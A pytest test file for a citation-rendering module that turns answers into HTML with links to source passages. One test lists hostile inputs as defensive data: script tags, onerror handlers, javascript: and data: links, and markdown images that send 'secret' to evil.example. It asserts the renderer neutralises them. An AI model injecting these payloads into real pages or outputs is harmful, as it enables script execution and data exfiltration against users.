from __future__ import annotations

import re
from dataclasses import replace
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generation.grounding.sentences import split_answer
from generation.rendering import render_answer
from generation.types import Borne, CitationFound, SourceRef

DOCUMENT = UUID(int=7)
SOURCE = SourceRef(
    n=1,
    document_id=DOCUMENT,
    version_id=UUID(int=8),
    document="manual.pdf",
    heading="",
    page=3,
    start=10,
    end=20,
    quote="Open it.",
    score=1.0,
)


def render(text: str, *citations: CitationFound) -> str:
    return str(render_answer(text, citations, [SOURCE]))


def unsupported(start: int, end: int) -> CitationFound:
    return CitationFound(
        start=start, end=end, sentence="", sources=(), verdict="unsupported"
    )


def test_a_mark_links_to_the_passage() -> None:
    html = render("It holds **40** litres [1].")
    assert "<strong>40</strong>" in html
    assert f'href="/documents/{DOCUMENT}?page=3&amp;start=10&amp;end=20' in html
    assert 'class="mark"' in html
    assert 'data-n="1"' in html


def test_each_mark_opens_the_words_that_bear_its_own_sentence() -> None:
    text = (
        "Open it [1].\n\n```\nrow[1]\n```\n\nClose it [1][1]. Bad one [1].\n\nEnd [1]"
    )
    spans = [(sentence.start, sentence.end) for sentence in split_answer(text)]
    first, _, second, bad, _ = spans
    assert text[slice(*second)] == "Close it [1][1]."

    def borne(span: tuple[int, int], at: int) -> CitationFound:
        words = Borne(n=1, start=at, end=at + 5, quote="words", page=4)
        return replace(unsupported(*span), verdict="supported", evidence=(words,))

    html = render(text, borne(first, 100), borne(second, 200), unsupported(*bad))
    opened = re.findall(r"page=(\d)&amp;start=(\d+)&amp;end=(\d+)", html)
    # A sentence without words of its own opens the passage.
    passage = ("3", "10", "20")
    second_words = ("4", "200", "205")
    assert opened == [("4", "100", "105"), second_words, second_words, passage, passage]


def test_numbers_of_no_source_and_indices_in_code_are_not_marks() -> None:
    assert 'class="mark"' not in render("See [9] and `row[1]`.\n\n```\nrow[1]\n```")


def test_unsupported_sentences_are_wrapped() -> None:
    text = "Good [1]. Bad one."
    html = render(text, unsupported(10, 18))
    assert '<span class="unsupported">Bad one.</span>' in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x][1]\n\n[1]: https://evil.example/x.png",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "[x]: javascript:alert(1)\n[x]",
        '<a href="javascript:alert(1)">x</a>',
        "<style>*{display:none}</style>",
        "\ue002999\ue003 \ue000 forged \ue001",
    ],
)
def test_nothing_of_a_text_becomes_active(hostile: str) -> None:
    html = render(hostile)
    assert not re.search(r"<(script|img|style|iframe)", html)
    for href in re.findall(r'<a [^>]*href="([^"]*)"', html):
        assert href.startswith(("https://", "http://", "/documents/"))
    assert not re.search(r"<[^>]*\son\w+=", html)


def test_a_link_says_where_it_leads() -> None:
    html = render("[our bank](https://evil.example/login)")
    assert "(evil.example)" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_headings_lie_below_those_of_the_page_and_tables_stay() -> None:
    html = render("# Big\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<h3>Big</h3>" in html
    assert "<td>2</td>" in html


@given(st.text(max_size=200), st.integers(0, 100), st.integers(1, 100))
def test_any_text_renders_balanced(text: str, start: int, length: int) -> None:
    end = min(start + length, len(text))
    citations = [unsupported(start, end)] if start < end else []
    html = render(text, *citations)
    for tag in ("span", "p", "a", "strong", "li"):
        assert len(re.findall(rf"<{tag}[ >]", html)) == html.count(f"</{tag}>")


@pytest.mark.parametrize(
    ("before", "shown"),
    [
        ("Few words. ", "Few words. "),
        (f"{'far ' * 60}It is near. ", "… far far far far"),
        (f"City: Oslo | People: 7 {'x' * 120}\nCity: Kiel | ", "… City: Kiel | "),
    ],
)
def test_a_card_begins_near_the_words_that_bear_the_answer(
    before: str, shown: str
) -> None:
    said = "It holds 40 litres."
    start = SOURCE.start + len(before)
    source = replace(
        SOURCE,
        quote=f"{before}{said} After.",
        borne=Borne(n=1, start=start, end=start + len(said), quote=said),
    )
    lead, words, after = source.parts
    assert lead.startswith(shown)
    assert len(lead) <= 125
    assert (words, after) == (said, " After.")
    assert replace(source, borne=None).parts == (source.quote, "", "")
